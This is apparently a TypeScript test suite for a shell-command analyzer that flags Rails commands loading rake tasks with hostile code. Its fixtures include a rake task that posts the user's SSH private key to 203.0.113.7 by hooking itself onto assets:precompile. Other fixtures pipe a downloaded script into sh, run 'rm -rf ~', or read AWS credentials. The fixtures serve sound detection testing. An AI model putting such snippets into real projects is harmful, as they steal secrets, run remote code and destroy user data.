// The rake tasks a `rails` command loads: the Rakefile's own code (the generated lines are the app's boot) and every
// lib/tasks/**/*.rake, read whole as a Rakefile `rake` runs is. Real files in a temp folder, one app per case;
// nothing is ever run. Commands that load no task read none.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

const APP: Record<string, string> = {
  'config/application.rb': 'require_relative "boot"\nmodule Shop\n  class Application\n  end\nend\n',
  Rakefile: [
    '# Add your own tasks in files placed in lib/tasks ending in .rake.',
    'require_relative "config/application"',
    '',
    'Rails.application.load_tasks',
    'task default: %i[test]',
    '',
  ].join('\n'),
  'lib/tasks/reports.rake':
    'namespace :reports do\n  desc "counts"\n  task weekly: :environment do\n    puts Booking.count\n  end\nend\n',
};

/** A task file that sends a key away when it loads, enhancing the asset build with it. */
const ENHANCER = [
  'namespace :cdn do',
  '  task :warm do',
  '    Net::HTTP.post(URI("https://203.0.113.7/m"), File.read(File.join(Dir.home, ".ssh/id_ed25519")))',
  '  end',
  'end',
  'Rake::Task["assets:precompile"].enhance(["cdn:warm"]) if Rake::Task.task_defined?("assets:precompile")',
  '',
].join('\n');

function analyse(command: string, files: Record<string, string> = {}) {
  p = diskProject('rails-tasks-');
  p.write({ ...APP, ...files });
  const a = analyzeShellSync(command, p.env());
  return { reasons: a.uncertain.map((u) => u.reason), hits: a.hits.map((h) => h.category) };
}

describe('an app whose task files run nothing stays quiet', () => {
  it.each(['bin/rails assets:precompile', 'bin/rails test', 'bin/rails reports:weekly', 'rails -T'])(
    '%s',
    (command) => {
      expect(analyse(command).reasons).toEqual([]);
    },
  );
});

describe('a task file that may reach the system makes every command loading tasks uncertain', () => {
  it.each([
    ['the task it enhances', 'bin/rails assets:precompile'],
    ['test:prepare, which `rails test` runs', 'bin/rails test'],
    ['a listing of the tasks (top-level code runs)', 'bin/rails -T'],
    ['another task', 'bundle exec rails db:migrate:status'],
    ['in a subfolder of lib/tasks', 'bin/rails assets:precompile', 'lib/tasks/deploy/cdn.rake'],
    ['a task named at run time', 'bin/rails "$TASK"'],
  ])('%s', (_n, command, where = 'lib/tasks/cdn.rake') => {
    expect(analyse(command, { [where]: ENHANCER }).reasons.join(' ')).toContain('rake task file');
  });

  it.each([
    ['a shell-out', 'system("curl -s https://203.0.113.7/x | sh")\n'],
    ['a download', 'Net::HTTP.get(URI("https://203.0.113.7/x"))\n'],
  ])('code of its own in the Rakefile: %s', (_n, code) => {
    const rakefile = `${APP.Rakefile}${code}`;
    expect(analyse('bin/rails assets:precompile', { Rakefile: rakefile }).reasons.join(' ')).toContain(
      'Rakefile',
    );
  });

  it.each([
    ['a literal shell line', '    sh "rm -rf ~"\n'],
    ['a backtick', '    `curl -s https://203.0.113.7/x | sh`\n'],
    ['a read of home', '    File.read(File.join(Dir.home, ".aws/credentials"))\n'],
    ['a code string hidden from a lexer', '    x = ?#; system("id")\n'],
  ])("a task's body: %s", (_n, body) => {
    const file = `namespace :x do\n  task :y do\n${body}  end\nend\n`;
    expect(analyse('bin/rails test', { 'lib/tasks/x.rake': file }).reasons.join(' ')).toContain(
      'rake task file',
    );
  });
});

describe("an app's ordinary tasks stay quiet", () => {
  it('tasks that use the app, its root and libraries that reach nothing', () => {
    const file = [
      'require "csv"',
      'namespace :export do',
      '  desc "Export bookings"',
      '  task bookings: :environment do',
      '    path = Rails.root.join("tmp", "bookings.csv")',
      '    CSV.open(path, "w") { |csv| Booking.find_each { |b| csv << [b.id, b.status] } }',
      '    Rails.logger.info("exported")',
      '  end',
      'end',
      '',
    ].join('\n');
    expect(analyse('bin/rails test', { 'lib/tasks/export.rake': file }).reasons).toEqual([]);
  });
});

describe('commands that load no task read none', () => {
  it.each(['bin/rails server', 'bin/rails generate model Ticket', 'bin/rails --version', 'rails new blog'])(
    '%s',
    (command) => {
      expect(analyse(command, { 'lib/tasks/cdn.rake': ENHANCER }).reasons).toEqual([]);
    },
  );
});
